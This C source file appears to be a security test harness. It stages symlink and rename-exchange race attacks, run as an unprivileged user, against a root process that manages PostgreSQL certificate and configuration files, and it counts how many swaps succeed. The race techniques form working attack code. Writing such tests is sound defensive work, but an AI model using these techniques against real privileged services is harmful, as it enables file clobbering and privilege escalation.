/* attacker.c: the server's user as an enemy of root. Swaps, as fast as it can, what root is about
 * to work on against something that leads to a victim of root's, and counts.
 *
 * usage: attacker SCENE DATA_DIRECTORY VICTIM SECONDS
 *
 * In VICTIM there are files of the same names as in the data directory, and below it a directory of
 * the same name as that. Prints how many of its operations did something. Each ends as it began.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define COUNT(array) (sizeof(array) / sizeof((array)[0]))
#define BATCH 64 /* between two looks at the clock */

struct attack {
    const char *data, *victim;
    unsigned long done;
    unsigned turn;
};

typedef void scene(struct attack *a);

static const char *
join(char path[static PATH_MAX], const char *directory, const char *name)
{
    (void)snprintf(path, PATH_MAX, "%s/%s", directory, name);
    return path;
}

static void
count(struct attack *a, int status)
{
    a->done += status == 0;
}

/* A name and a link to something of the victim's change places, to and fro. */
static void
exchange(struct attack *a, const char *name, const char *target)
{
    char link[PATH_MAX];

    (void)snprintf(link, sizeof(link), "%s.link", name);
    if (symlink(target, link) < 0 && errno != EEXIST)
        return;
    for (int i = 0; i < 2; i++)
        count(a, renameat2(AT_FDCWD, name, AT_FDCWD, link, RENAME_EXCHANGE));
}

static void
exchange_file(struct attack *a, const char *name)
{
    char path[PATH_MAX], target[PATH_MAX];

    exchange(a, join(path, a->data, name), join(target, a->victim, name));
}

/* ---- the scenes ---- */

/* The file is a link, a hard link, a pipe, a directory, nothing, and a file again. */
static void
files(struct attack *a)
{
    static const char *const names[] = {"pgcert.pem", "pgcert.pem.previous", "pgcert-clients.pem",
                                        "race.pem",   "race.pem.previous",   "race.conf"};
    const char *name = names[a->turn++ % COUNT(names)];
    char path[PATH_MAX], target[PATH_MAX], saved[PATH_MAX + sizeof(".mine")];

    (void)join(path, a->data, name);
    (void)join(target, a->victim, name);
    (void)snprintf(saved, sizeof(saved), "%s.mine", path);
    if (a->turn % 8 != 0) {
        exchange(a, path, target);
        return;
    }
    count(a, rename(path, saved));
    count(a, link(target, path)); /* refused where hard links are protected */
    (void)unlink(path);
    if (strstr(name, "previous") != NULL) { /* the server would wait at a pipe for ever */
        count(a, mkfifo(path, 0600));
        count(a, unlink(path));
    }
    count(a, mkdir(path, 0700));
    count(a, rmdir(path));
    count(a, rename(saved, path));
}

/* What root has just made, before it has its name. */
static void
temporary(struct attack *a)
{
    DIR *list = opendir(a->data);
    const struct dirent *entry = NULL;
    char path[PATH_MAX], target[PATH_MAX];

    if (list == NULL)
        return;
    for (entry = readdir(list); entry != NULL; entry = readdir(list)) {
        if (strstr(entry->d_name, ".new-") == NULL)
            continue;
        (void)join(path, a->data, entry->d_name);
        count(a, unlink(path));
        count(a, symlink(join(target, a->victim, "pgcert.pem"), path));
    }
    (void)closedir(list);
    exchange_file(a, "pgcert.pem");
}

static void
directory(struct attack *a)
{
    exchange(a, a->data, a->victim);
}

static void
parent(struct attack *a)
{
    char path[PATH_MAX];

    (void)snprintf(path, sizeof(path), "%s", a->data);
    *strrchr(path, '/') = '\0';
    exchange(a, path, a->victim);
}

static void
settings(struct attack *a)
{
    static const char *const names[] = {"pg_hba.conf", "pg_ident.conf", "conf.d",
                                        "postgresql.conf"};

    exchange_file(a, names[a->turn++ % COUNT(names)]);
}

static void
all(struct attack *a)
{
    static scene *const scenes[] = {files, temporary, settings, directory, parent};

    scenes[a->turn / 97 % COUNT(scenes)](a);
    a->turn++;
}

static const struct {
    const char *name;
    scene *run;
} scenes[] = {{"files", files},   {"temporary", temporary}, {"directory", directory},
              {"parent", parent}, {"settings", settings},   {"all", all}};

static double
now_s(void)
{
    struct timespec t = {0};

    (void)clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int
main(int argc, char **argv)
{
    struct attack a = {0};
    double until_s = 0;

    if (argc != 5 || geteuid() == 0)
        return 64;
    a.data = argv[2];
    a.victim = argv[3];
    until_s = now_s() + strtod(argv[4], NULL);
    for (size_t i = 0; i < COUNT(scenes); i++)
        while (strcmp(scenes[i].name, argv[1]) == 0 && now_s() < until_s)
            for (int n = 0; n < BATCH; n++)
                scenes[i].run(&a);
    (void)printf("%lu\n", a.done);
    return a.done > 0 ? 0 : 1;
}
